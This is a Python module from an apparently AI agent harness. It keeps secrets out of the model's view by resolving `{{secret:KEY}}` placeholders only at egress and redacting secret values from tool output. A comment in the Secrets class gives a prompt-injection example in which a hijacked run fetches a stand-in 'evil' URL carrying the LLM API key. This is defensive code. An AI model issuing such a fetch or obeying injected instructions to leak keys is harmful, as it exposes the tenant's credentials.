"""Secrets never reach the model: `{{secret:KEY}}` is resolved only at egress, values are redacted.

A tool argument may say `{{secret:KEY}}`; the transcript keeps the placeholder, and only the code
that sends bytes out of the host (fetch's URL and headers, git's remote) calls `resolve()`. Every
tool output passes through `redact()` before the model, the log or `_steps.jsonl` sees it, so a
value that leaks back (an echoing server, a file that holds it) comes back as `[secret:KEY]`.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field

PLACEHOLDER = re.compile(r"\{\{secret:([A-Za-z0-9_.-]{1,128})\}\}")
MIN_REDACT_LEN = 4  # shorter values would redact ordinary words; such secrets are refused as weak


@dataclass(frozen=True)
class Secrets:
    """The tenant's secret values for one run (key -> value)."""

    values: dict[str, str] = field(default_factory=dict)
    # keys that are redacted but never resolved: the model key must not be sendable to a site the
    # model names (a prompt-injected run could otherwise fetch https://evil/?k={{secret:LLM_API_KEY}})
    redact_only: frozenset[str] = frozenset()

    def resolve(self, text: str) -> str:
        """Egress only: placeholders of known keys become their values; unknown ones stay literal."""

        def sub(m: re.Match) -> str:
            if m.group(1) in self.redact_only:
                return m.group(0)
            v = self.values.get(m.group(1))
            return v if v is not None else m.group(0)

        return PLACEHOLDER.sub(sub, text)

    def _forms(self):
        for key, value in self.values.items():
            if not value or len(value) < MIN_REDACT_LEN:
                continue
            yield value, key
            escaped = json.dumps(value)[1:-1]  # the value as it appears inside a JSON string
            if escaped != value:
                yield escaped, key

    def redact(self, text: str) -> str:
        """Every occurrence of a secret value (raw or JSON-escaped) becomes `[secret:KEY]`."""
        if not text or not self.values:
            return text
        for value, key in sorted(self._forms(), key=lambda vk: -len(vk[0])):
            if value in text:
                text = text.replace(value, f"[secret:{key}]")
        return text

    def redact_obj(self, obj):
        """redact() applied to every string inside a JSON-like value (dict keys included)."""
        if isinstance(obj, str):
            return self.redact(obj)
        if isinstance(obj, dict):
            return {self.redact(str(k)): self.redact_obj(v) for k, v in obj.items()}
        if isinstance(obj, (list, tuple)):
            return [self.redact_obj(v) for v in obj]
        return obj
